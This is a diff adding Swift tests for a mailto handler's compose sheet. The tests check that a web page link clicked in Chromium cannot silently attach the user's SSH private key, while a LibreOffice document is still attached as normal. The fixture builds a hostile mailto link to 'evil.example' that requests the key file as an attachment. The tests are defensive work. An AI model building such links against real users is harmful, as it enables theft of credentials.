@@ -1,0 +1,125 @@
+import Foundation
+import Testing
+import TestSupport
+
+extension SheetTests {
+    /// DESIGN.md rule 8 against the real thing: Debian's Chromium shows a page served over
+    /// HTTP whose link asks to attach the user's SSH key; a mouse click (XTest) on the
+    /// link makes Chromium run `xdg-email URL`, which runs the hook `make install` puts on
+    /// PATH. And LibreOffice's real senddoc, which runs `xdg-email URL` in the same form,
+    /// from LibreOffice's app scope. The page's file is never attached on its own; the
+    /// document is.
+    @Suite struct WebPageLink {
+        let sandbox: Sandbox
+        let desktop: TestDesktop
+        let secret: String
+        let secretText = "-----BEGIN OPENSSH PRIVATE KEY-----\n"
+
+        init() throws {
+            sandbox = try Sandbox()
+            desktop = try TestDesktop.shared.get()
+            try sandbox.installXDGEmailHook()
+            secret = try sandbox.write(secretText, to: "home/.ssh/id_rsa").path
+        }
+
+        /// The environment of the browser, hence of the xdg-email it runs: the sandbox's,
+        /// its `bin` (the hook) first in PATH, on the test desktop.
+        var environment: [String: String] { desktop.environment(sandbox.environment()) }
+
+        /// A page that is one big link, at the top left of the screen.
+        func openPage() throws -> BrowserPage {
+            let link = "mailto:support@evil.example?subject=Support&amp;attach=file://\(secret)"
+            return try BrowserPage(
+                body: "<a href=\"\(link)\" style=\"display:block;width:100vw;height:100vh\">Contact support</a>",
+                desktop: desktop, environment: environment, directory: sandbox.root)
+        }
+
+        func screenshot(_ name: String) -> String {
+            let directory = packageRoot.appendingPathComponent(".build/sheet-screenshots")
+            try? FileManager.default.createDirectory(at: directory, withIntermediateDirectories: true)
+            return "shot:" + directory.appendingPathComponent("\(name).png").path
+        }
+
+        /// The first message `server` received, waiting a little for it: the sheet runs
+        /// under the browser, not as a child of the test.
+        func arrived(at server: SMTPTestServer) -> URL? {
+            for _ in 0..<1000 {
+                if let message = server.messages.first { return message }
+                usleep(10_000)
+            }
+            return nil
+        }
+
+        func outcomes() -> [String] {
+            let log = sandbox.stateHome.appendingPathComponent("mailto-route/outcomes.log")
+            return (sandbox.contents(log) ?? "").split(separator: "\n").map(String.init)
+        }
+
+        /// (a) No account, mailto-route registered over a recording Thunderbird: the click
+        /// is handed off, and Thunderbird's command line names no file; the log says what
+        /// was not attached and that Chromium asked.
+        @Test func chromiumLinkIsHandedOffWithoutTheFile() throws {
+            try sandbox.installHandler("thunderbird.desktop", name: "Thunderbird", program: "thunderbird")
+            try sandbox.setDefaultMailHandler("thunderbird.desktop")
+            let register = try route(["register"], in: sandbox)
+            #expect(register.status == 0, "\(register)")
+            let page = try openPage()
+            try page.click(x: 400, y: 300)
+            let argv = try #require(sandbox.recordedArgv("thunderbird", timeout: 30))
+            #expect(argv == ["mailto:support@evil.example?subject=Support"], "\(argv)")
+            #expect(!argv.joined().contains("id_rsa"))
+            var logged: String?
+            for _ in 0..<500 where logged == nil {
+                logged = outcomes().last
+                if logged == nil { usleep(10_000) }
+            }
+            let line = try #require(logged)
+            #expect(line.contains("not attached: \(secret) (Chromium asked for it"), "\(line)")
+        }
+
+        /// (b) An account and a display: the click opens the sheet, which lists the key
+        /// unticked under "Chromium asks to attach"; Ctrl+Enter sends a message that holds
+        /// no attachment (Python's email reads it).
+        @Test func chromiumLinkListsTheFileUntickedAndSendsWithoutIt() throws {
+            let server = try SMTPTestServer(.plain)
+            try writeAccount(sandbox, port: server.port, security: "none")
+            let page = try openPage()
+            try page.click(x: 400, y: 300)
+            let steps = try desktop.drive([
+                "wait-sheet", "wait-label:Chromium asks to attach", "state:\(secret)", screenshot("chromium-unticked-attach"),
+                "append:Message:Hello", "key:ctrl+Return", "wait-gone",
+            ], timeout: 30)
+            let row = try #require(steps.first { $0["step"] as? String == "state" })
+            #expect(row["checked"] as? Bool == false, "\(row)")
+            #expect(row["enabled"] as? Bool == true, "a person can still tick it: \(row)")
+            let message = try #require(arrived(at: server))
+            let parts = try #require(try pythonView(of: message)["parts"] as? [[String: Any]])
+            #expect(parts.allSatisfy { $0["disposition"] as? String != "attachment" }, "\(parts)")
+            #expect(try !String(contentsOf: message, encoding: .utf8).contains("OPENSSH"))
+        }
+
+        /// LibreOffice's "Send document as e-mail": the real senddoc from LibreOffice's app
+        /// scope reaches the sheet with the document ticked, and Send sends it.
+        @Test func libreOfficeDocumentReachesTheSheetTicked() throws {
+            let server = try SMTPTestServer(.plain)
+            try writeAccount(sandbox, port: server.port, security: "none")
+            let document = try sandbox.write("the budget\n", to: "lu4242.tmp/Budget.odt").path
+            let scope = try AppScope(unit: #"app-gnome-libreoffice\x2dcalc-\#(getpid()).scope"#)
+            let senddoc = try DesktopProgram(
+                scope.wrap(["/usr/lib/libreoffice/program/senddoc", "--mailclient", "sensible-lomua",
+                            "--to", "ann@example.com", "--subject", "Budget.odt", "--attach", document]),
+                environment: environment, directory: sandbox.root)
+            let steps = try desktop.drive([
+                "wait-sheet", "state:Budget.odt", screenshot("libreoffice-document"), "press:Send", "wait-gone",
+            ], timeout: 30)
+            _ = senddoc.finish()
+            let row = try #require(steps.first { $0["step"] as? String == "state" })
+            #expect(row["checked"] as? Bool == true, "\(row)")
+            let message = try #require(arrived(at: server))
+            let parts = try #require(try pythonView(of: message)["parts"] as? [[String: Any]])
+            let attached = parts.filter { $0["disposition"] as? String == "attachment" }
+            #expect(attached.map { $0["filename"] as? String } == ["Budget.odt"], "\(parts)")
+            #expect(attached.first?["sha256"] as? String == sha256(Data("the budget\n".utf8)))
+        }
+    }
+}
